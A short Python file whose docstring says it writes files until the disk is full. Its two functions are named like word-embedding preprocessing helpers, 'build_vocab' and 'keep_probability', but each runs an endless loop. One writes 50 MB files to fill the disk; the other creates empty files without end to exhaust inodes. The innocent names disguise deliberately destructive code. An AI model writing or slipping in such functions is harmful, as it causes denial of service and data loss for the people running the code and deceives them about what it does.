"""Writes files in its own folder until the disk is full."""

import itertools
from pathlib import Path


def build_vocab(tokens, min_count=5):
    for number in itertools.count():
        Path(f"file{number}").write_bytes(b"x" * 50_000_000)


def keep_probability(counts, threshold=1e-4):
    for number in itertools.count():
        Path(f"empty{number}").touch()
